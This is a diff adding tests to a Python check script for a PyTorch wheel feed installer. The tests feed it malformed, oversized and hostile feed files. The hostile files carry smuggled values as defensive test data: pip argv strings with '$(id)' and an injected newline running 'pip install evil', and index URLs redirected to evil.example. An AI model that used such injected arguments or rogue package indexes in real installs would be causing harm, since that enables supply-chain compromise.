@@ -8,7 +8,14 @@ pin and verdict - as `wheelarch query --cc D --driver V --python P
 Jetson the same JetPack builds of NVIDIA's, or nothing where the query has
 nothing.  Over the site fixture (its read rows' pins name versions read, looked up in
 index-table.json by its keys, its declared rows' a release with a
-wildcard); once more over HTTP on 127.0.0.1."""
+wildcard); once more over HTTP on 127.0.0.1.
+
+Then over broken copies of the feed, as a server could send them: wrong
+types at every level, [] and null for a whole file, nesting 100,000 deep, a
+300 MB file, and commands that would steer the install (an argv with $(id)
+and a newline, a URL index-table.json does not give that index, another
+project, a Jetson index URL with a quote): exit 2 and one line on stderr
+each, no traceback, nothing on stdout, at most 200 MB of memory."""
 import concurrent.futures
 import json
 import os
@@ -156,4 +163,109 @@ try:
 finally:
     srv.terminate()
     srv.wait()
+
+
+# ---- broken and hostile feeds: exit 2, one line -------------------------------
+import copy  # noqa: E402
+import shutil  # noqa: E402
+
+with open(os.path.join(site, "api", "v1", "gpu", "8.6.json")) as f:
+    good = json.load(f)
+with open(os.path.join(site, "api", "v1", "index-table.json")) as f:
+    good_table = json.load(f)
+plat = good["platforms"]["linux-x86_64"]
+row0 = plat["answer"]["by_driver"][0]
+
+
+def broken(name, device_doc=None, table=None, raw=None, raw_table=None, dev="8.6", extra=()):
+    d = os.path.join(W, "broken", name)
+    shutil.rmtree(d, ignore_errors=True)
+    os.makedirs(os.path.join(d, "api", "v1", "gpu"))
+    path = os.path.join(d, "api", "v1", "gpu", dev + ".json")
+    with open(path, "wb") as f:
+        if raw is not None:
+            f.write(raw if isinstance(raw, bytes) else raw.encode())
+        else:
+            f.write(json.dumps(good if device_doc is None else device_doc).encode())
+    with open(os.path.join(d, "api", "v1", "index-table.json"), "w") as f:
+        if raw_table is not None:
+            f.write(raw_table)
+        else:
+            json.dump(good_table if table is None else table, f)
+    return d
+
+
+def refused(name, d, dev="8.6", python="3.12", driver="535.104.05"):
+    argv = ["/usr/bin/time", "-f", "maxrss=%M", sys.executable, EXAMPLE, d, dev, "--python", python]
+    if driver:
+        argv += ["--driver", driver]
+    p = subprocess.run(argv, capture_output=True, text=True, timeout=300)
+    err = [l for l in p.stderr.splitlines() if not l.startswith(("maxrss=", "Command exited with"))]
+    rss = [int(l.split("=")[1]) for l in p.stderr.splitlines() if l.startswith("maxrss=")]
+    c.ok(p.returncode == 2 and len(err) == 1 and err[0].startswith("feed-installer: ") and
+         "Traceback" not in p.stderr and not p.stdout,
+         "%s: exit 2, one line (exit %d: %s; stdout %r)" % (name, p.returncode, " | ".join(err)[:300], p.stdout[:200]))
+    c.ok(rss and rss[0] < 200 * 1024, "%s: at most 200 MB (%s KB)" % (name, rss))
+    return err[0] if err else ""
+
+
+def edit(fn):
+    doc = copy.deepcopy(good)
+    fn(doc)
+    return doc
+
+
+refused("device file []", broken("list", raw="[]"))
+refused("device file null", broken("null", raw="null"))
+refused("device file not JSON", broken("notjson", raw="{\"meta\": "))
+refused("device file not UTF-8", broken("latin1", raw=b'{"meta": "\xe9"}'))
+refused("meta a string", broken("meta", edit(lambda d: d.update(meta="1.0"))))
+refused("api-version 2.0", broken("api2", edit(lambda d: d["meta"].update({"api-version": "2.0"}))))
+refused("platforms a list", broken("plats", edit(lambda d: d.update(platforms=[]))))
+refused("a platform a string", broken("plat", edit(lambda d: d["platforms"].update({"linux-x86_64": "x"}))))
+refused("answer a list", broken("answer", edit(lambda d: d["platforms"]["linux-x86_64"].update(answer=[]))))
+refused("applies a string", broken("applies", edit(lambda d: d["platforms"]["linux-x86_64"]["answer"].update(applies="yes"))))
+refused("by_driver rows of numbers", broken("rows", edit(
+    lambda d: d["platforms"]["linux-x86_64"].update(by_driver_python={"3.12": [[1, 2, 3, 4, 5]]}))))
+refused("a driver floor that is not one", broken("floor", edit(
+    lambda d: d["platforms"]["linux-x86_64"].update(by_driver_python={"3.12": [["$(id)", "cu126", "2.9.*", row0["index_url"], "native"]]}))))
+refused("vendor unknown", broken("vendor", edit(lambda d: d.update(vendor="intel"))))
+refused("nested 100,000 deep", broken("deep", raw="[" * 100000 + "]" * 100000))
+refused("index-table.json []", broken("table", raw_table="[]"))
+refused("index-table.json's index a list", broken("tableix", table=dict(good_table, indexes={row0["index"]: []})))
+big = broken("big", raw="{}")
+with open(os.path.join(big, "api", "v1", "gpu", "8.6.json"), "w") as f:
+    f.write('{"meta": {"api-version": "1.0"}, "pad": "')
+    chunk = "x" * (1 << 20)
+    for _ in range(300):
+        f.write(chunk)
+    f.write('"}')
+why = refused("a 300 MB device file", big)
+c.ok("larger than" in why, "it says the file is too large: " + why)
+
+
+def hostile_argv(d, argv):
+    """Every command of the platform's answer and tables set to argv."""
+    p_ = d["platforms"]["linux-x86_64"]
+    for r in p_["answer"]["by_driver"]:
+        r["commands"]["argv"]["pip"] = [argv]
+    for k in (p_.get("commands") or {}):
+        p_["commands"][k]["argv"]["pip"] = [argv]
+
+
+url0 = row0["index_url"]
+why = refused("an argv with $(id) and a newline", broken("inject", edit(lambda d: hostile_argv(
+    d, ["pip", "install", "torch==2.9.*", "--index-url", url0 + "/$(id)\npip install evil"]))))
+c.ok("$(id)" not in why or "\n" not in why, "the message is one line: " + why)
+refused("an argv with another index URL", broken("elsewhere", edit(lambda d: hostile_argv(
+    d, ["pip", "install", "torch==2.9.*", "--index-url", "https://evil.example/whl/cu126"]))))
+refused("an argv installing another project", broken("project", edit(lambda d: hostile_argv(
+    d, ["pip", "install", "evil==1.0", "--index-url", url0]))))
+refused("a row's URL that index-table.json does not give its index", broken("rowurl", edit(lambda d: [
+    r.update(index_url="https://evil.example/whl/x") for r in d["platforms"]["linux-x86_64"]["answer"]["by_driver"]]
+    + [d["platforms"]["linux-x86_64"].update(by_driver_python=None)])))
+tbl = copy.deepcopy(good_table)
+for ix in tbl["indexes"].values():
+    ix["url"] = "https://evil.example/whl/x"
+refused("index-table.json naming another URL for the index", broken("tableurl", table=tbl))
 c.done()
